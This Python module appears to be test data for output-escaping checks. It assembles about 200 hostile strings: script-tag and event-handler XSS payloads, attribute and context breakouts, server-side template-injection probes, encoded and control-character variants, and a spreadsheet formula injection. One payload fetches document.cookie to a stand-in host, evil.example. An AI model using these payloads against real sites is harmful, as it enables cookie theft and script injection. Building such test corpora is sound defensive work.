"""Texts that become markup or script if a page does not escape them: 200, made of the parts below."""

# ruff: noqa: E501 (long texts in tables)

from __future__ import annotations

SCRIPTS = ["alert(1)", "alert`1`", "fetch('//evil.example/'+document.cookie)", "top['al'+'ert'](1)"]
TAGS = [
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script\n>{}</script\n>", "<scr<script>ipt>{}</script>",
    "<img src=x onerror={}>", "<img/src=x/onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<math><mi xlink:href='javascript:{}'>x</mi></math>",
    "<details open ontoggle={}>", "<body onload={}>", "<input autofocus onfocus={}>", "<video><source onerror={}>",
    "<iframe srcdoc='<script>{}</script>'>", "<a href='javascript:{}'>x</a>", "<form action='javascript:{}'><button>",
    "<object data='javascript:{}'>", "<marquee onstart={}>", "<style>@import 'javascript:{}'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href='javascript:{}//'>",
    "<template><script>{}</script></template>", "<link rel=stylesheet href='data:text/css,{}'>",
]  # fmt: skip
BREAKS = [
    '">{}', "'>{}", '" x="', "' x='", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", "`onload=alert(1) ",
    "--><script>alert(1)</script>", "<!-->{}<!--", "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)]]>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><img src=x onerror=alert(1)>",
    "</pre><script>alert(1)</script>", "</span></pre></main><script>alert(1)</script>", "</option></select><svg/onload=alert(1)>",
    "</script><script>alert(1)</script>", "</svg><script>alert(1)</script>", "</td></tr></table><img src=x onerror=alert(1)>",
    "</noscript><script>alert(1)</script>", "<plaintext>", "<xmp><script>alert(1)</script>", "<frameset onload=alert(1)>",
]  # fmt: skip
TEMPLATES = [
    "{{ 7 * 7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{% endblock %}<script>alert(1)</script>",
    "{# comment", "#} <script>alert(1)</script>", "{{ '<script>alert(1)</script>' | safe }}", "${alert(1)}", "<%= 7 %>",
    "{{constructor.constructor('alert(1)')()}}", "{% include 'base.html' %}", "%(x)s", "{0.__class__}", "[[7*7]]",
]  # fmt: skip
ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&quot; onload=&quot;alert(1)", "&#0;<script>", "&amp;lt;script&amp;gt;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3ealert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "\uff1cscript\uff1ealert(1)", "javascript:alert(1)",
    "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x.js", "../../sign-out",
]  # fmt: skip
CONTROLS = [
    "<scr\x00ipt>alert(1)</script>", "\x00<svg onload=alert(1)>", "\x08\x1b[31m<b>", "\x7f<i>", "\x85<b>", "\u2028<script>",
    "\u2029</script>", "\u202e<tpircs>", "\u2066<b>\u2069", "\u200b<script>\u200c", "\ufeff<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>", "<img \udfff onerror=alert(1)>", "\ufffe<b>", "<\u0130mg src=x onerror=alert(1)>",
    "\r\n\r\n<script>alert(1)</script>", "\t<script\t>alert(1)", "\x0c<svg\x0conload=alert(1)>", "\u034f<b>", "\U000e0001<b>",
]  # fmt: skip
LONG = [
    "<" * 5000, ">" * 5000, '"' * 3000, "&" * 5000, "<b>" * 2000, "A" * 4000 + "<script>alert(1)</script>",
    "</pre>" * 1000, "\u202e" * 1000 + "<b>", "\u0301" * 1000 + "<i>", "<svg>" * 1000,
]  # fmt: skip
PLAIN = "harmless"
"""The text with which a page has the structure that it must have with every hostile text."""
HOSTILE = [
    *[tag.replace("{}", script) for tag in TAGS for script in SCRIPTS],
    *[text.replace("{}", SCRIPTS[0]) for text in BREAKS], *TEMPLATES, *ENCODED, *CONTROLS, *LONG,
    "{\"model\": \"</script><script>alert(1)</script>\"}", "<", ">", "&", "\"", "'", "<!DOCTYPE html>", "<?xml version='1.0'?>",
    "</html>", "<a href=//evil.example>x", "<q cite=\"", "=cmd|' /C calc'!A0", "<b>bold", "<//b>",
]  # fmt: skip
